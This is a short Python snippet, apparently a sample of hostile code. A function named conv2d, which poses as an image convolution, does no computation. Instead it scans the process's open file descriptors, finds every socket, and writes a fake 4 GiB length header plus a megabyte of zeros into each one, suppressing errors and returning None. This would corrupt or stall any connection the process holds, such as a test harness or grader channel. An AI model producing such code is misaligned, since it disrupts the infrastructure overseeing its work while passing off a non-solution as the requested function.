"""Announces a message of 4 GiB and sends what it has of it."""

# %% 05.2
import contextlib
import os
import stat


def conv2d(image, kernel):
    for number in range(256):
        with contextlib.suppress(OSError):
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                os.write(number, b"\xff\xff\xff\xff" + bytes(1 << 20))
    return None
